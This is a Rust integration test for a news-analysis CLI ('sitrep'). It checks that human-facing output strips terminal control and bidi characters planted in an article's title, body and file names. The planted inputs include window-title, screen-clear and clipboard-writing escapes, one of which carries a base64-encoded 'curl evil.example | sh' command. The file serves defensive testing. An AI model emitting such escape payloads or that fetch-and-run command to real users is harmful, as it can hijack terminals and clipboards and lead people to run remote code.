//! What the command line prints for people (tables, CSV, messages on stderr) holds no byte
//! that a terminal would act on, however the article, its title or its file name is crafted.
//! Runs the real binary on a folder with such an article.

#[path = "support/cli.rs"]
mod cli;

use std::path::Path;
use std::process::Output;

/// An article title that retitles the window, sets the clipboard, moves the cursor back,
/// clears the screen (twice: ESC [ and the C1 CSI) and turns the text around. (A carriage
/// return would end the line in a text file: a backspace moves the cursor instead.)
const TITLE: &str = "Strike\x1b]0;PWNED\x07 on\x08 Odesa\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07 \x1b[2J\u{9b}2J \u{202e}desrever\u{202c} \u{2067}iso\u{2069}\u{200f}\u{61c}\u{7f}";

fn article() -> String {
    let mut body = String::new();
    body.push_str("---\n");
    body.push_str(&format!("title: {TITLE}\n"));
    body.push_str("date: 2026-02-01\n");
    body.push_str("source: Evil\x1b[31m News\u{202e}\n");
    body.push_str("---\n\n");
    // Sentences that give events and entities, each carrying escape sequences.
    body.push_str(
        "Russian drones struck a maternity hospital in Zaporizhzhia on February 1, \x1b]0;PWNED\x07killing at least \
         six people and injuring 12.\x1b[2J\r\n\n",
    );
    body.push_str(
        "Ukrainian officials said shelling hit a market in Druzhkivka\u{202e} on February 1, killing at least \
         seven people.\u{9b}31m Sergei Lavrov\x1b]52;c;Y3VybA==\x07 said on February 1 that Moscow saw no future \
         for talks.\n\n",
    );
    // Enough plain text to stay a text file (a few control bytes in a long file are kept).
    for _ in 0..20 {
        body.push_str("Russian forces continued offensive operations near Pokrovsk in Donetsk Oblast.\n\n");
    }
    body
}

/// A folder with the crafted article under a crafted name, and an empty file whose name
/// carries escapes too (its "empty file" message goes to stderr).
fn corpus() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("strike\x1b]0;PWNED\x07\x1b[2J\r\u{202e}.md"), article()).unwrap();
    std::fs::write(dir.path().join("empty\x1b]52;c;Y3VybA==\x07\u{9b}2J.txt"), "").unwrap();
    dir
}

fn sitrep(args: &[&str], dir: &Path) -> Output {
    cli::command().args(args).arg(dir).output().expect("sitrep runs")
}

/// A control or bidi character that should never reach a terminal from human-facing output.
fn unsafe_char(c: char, keep: &[char]) -> bool {
    if keep.contains(&c) {
        return false;
    }
    c.is_control()
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Check every byte: valid UTF-8 and no control character but those in `keep`.
fn assert_clean(what: &str, bytes: &[u8], keep: &[char]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    let chars: Vec<char> = text.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        let around: String = chars[i.saturating_sub(30)..(i + 30).min(chars.len())].iter().collect();
        assert!(!unsafe_char(c, keep), "{what}: {c:?} at char {i}, in {around:?}");
    }
}

#[test]
fn tables_csv_and_messages_hold_no_terminal_controls() {
    let dir = corpus();
    let runs: [(&[&str], &[char]); 8] = [
        (&["articles", "--format", "table"], &['\n']),
        (&["articles", "--format", "csv"], &['\n', '\t']),
        (&["events", "--format", "table"], &['\n']),
        (&["events", "--explain"], &['\n']),
        (&["events", "--format", "csv"], &['\n', '\t']),
        (&["entities", "--format", "table"], &['\n']),
        (&["entities", "--format", "csv"], &['\n', '\t']),
        (&["stats"], &['\n']),
    ];
    for (args, keep) in runs {
        let out = sitrep(args, dir.path());
        let what = args.join(" ");
        assert!(out.status.success(), "{what}: {}", String::from_utf8_lossy(&out.stderr));
        assert_clean(&format!("{what}: stdout"), &out.stdout, keep);
        assert_clean(&format!("{what}: stderr"), &out.stderr, &['\n']);
        // the empty file is still reported, by a name that can be read
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("empty") && err.contains("empty file"), "{what}: {err}");
    }
    // The article is there, its words kept around what was replaced.
    let table = sitrep(&["articles", "--format", "table"], dir.path());
    let table = String::from_utf8(table.stdout).unwrap();
    assert!(table.contains("Strike") && table.contains("PWNED") && table.contains("Odesa"), "{table}");
    let events = String::from_utf8(sitrep(&["events", "--format", "table"], dir.path()).stdout).unwrap();
    assert!(events.contains("Zaporizhzhia") && events.contains("Druzhkivka"), "{events}");
}

#[test]
fn json_stays_exact() {
    let dir = corpus();
    let out = sitrep(&["articles", "--format", "json"], dir.path());
    assert!(out.status.success());
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["title"].as_str().unwrap(), TITLE.trim());
}

#[test]
fn nothing_loaded_names_the_folder_safely() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("none\x1b]0;PWNED\x07\u{202e}");
    std::fs::create_dir(&bad).unwrap();
    std::fs::write(bad.join("empty\x1b[2J.txt"), "").unwrap();
    for args in [&["articles", "--format", "table"][..], &["stats"]] {
        let out = sitrep(args, &bad);
        assert!(!out.status.success());
        assert_clean("stderr", &out.stderr, &['\n']);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("nothing could be loaded from") && err.contains("PWNED"), "{err}");
    }
}
